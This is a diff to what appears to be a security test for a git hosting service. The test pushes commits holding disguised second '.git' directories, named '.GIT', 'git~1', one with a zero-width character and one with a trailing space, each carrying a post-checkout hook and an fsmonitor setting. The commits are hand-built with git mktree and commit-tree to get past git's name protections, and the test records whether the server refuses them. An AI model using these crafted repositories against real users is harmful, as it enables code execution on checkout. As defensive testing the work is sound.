@@ -14,13 +14,12 @@ const attack: Attack = {
     await evil.sh(`for d in ${forbidden.map((n) => `'${n}'`).join(' ')}; do mkdir -p "$d/hooks"; cp evil.sh "$d/hooks/post-checkout"; printf '[core]\\n\\tfsmonitor = ${program}\\n' >"$d/config"; echo 'ref: refs/heads/main' >"$d/HEAD"; mkdir -p "$d/objects" "$d/refs"; done`)
     await t.person.everyday(evil.worktree, evil.branch)
     const taken: string[] = []
-    for (const name of ['.GIT', 'git~1', '.g\u200cit']) {
-      await evil.sh(`git reset -q; git -c core.protectHFS=false -c core.protectNTFS=false add -f '${name}' && git -c core.protectHFS=false -c core.protectNTFS=false commit -qm 'names'`).catch(() => undefined)
-      const inTree = await evil.sh(`git ls-tree -r --name-only HEAD | grep -ci git || true`)
-      need(Number(inTree) > 0, `${name} did not get into a commit`)
+    for (const name of ['.GIT', 'git~1', '.g\u200cit', '.git ']) {
+      await evil.sh(`inner=$(printf '100755 blob %s\\tpost-checkout\\n' $(git hash-object -w evil.sh) | git mktree); hooks=$(printf '040000 tree %s\\thooks\\n' $inner | git mktree); top=$(printf '040000 tree %s\\t%s\\n' $hooks '${name}' | git mktree)
+        git update-ref HEAD $(git commit-tree -p refs/orchestra/base -m names $top)`)
       if ((await evil.push()).accepted) taken.push(name)
-      await evil.sh('git reset -q --soft refs/orchestra/base; git reset -q')
     }
+    await evil.sh('git update-ref HEAD $(git commit-tree -p refs/orchestra/base -m "as it was" refs/orchestra/base^{tree}); git read-tree HEAD')
     await evil.sh(`rm -rf ${forbidden.map((n) => `'${n}'`).join(' ')}`)
     if (taken.length > 0) return { through: `imported: ${taken.join(', ')}` }
     await evil.sh(`python3 - <<'END'
@@ -37,7 +36,7 @@ END`)
     need(diff.ok, `the page shows no diff: ${diff.status}`)
     await evil.try('git reset -q --hard refs/orchestra/base')
     await evil.clean()
-    return { held: `three trees with a second .git refused; thirteen odd names imported, shown and run by nothing` }
+    return { held: `four trees with a second .git refused; thirteen odd names imported, shown and run by nothing` }
   },
 }
 export default attack
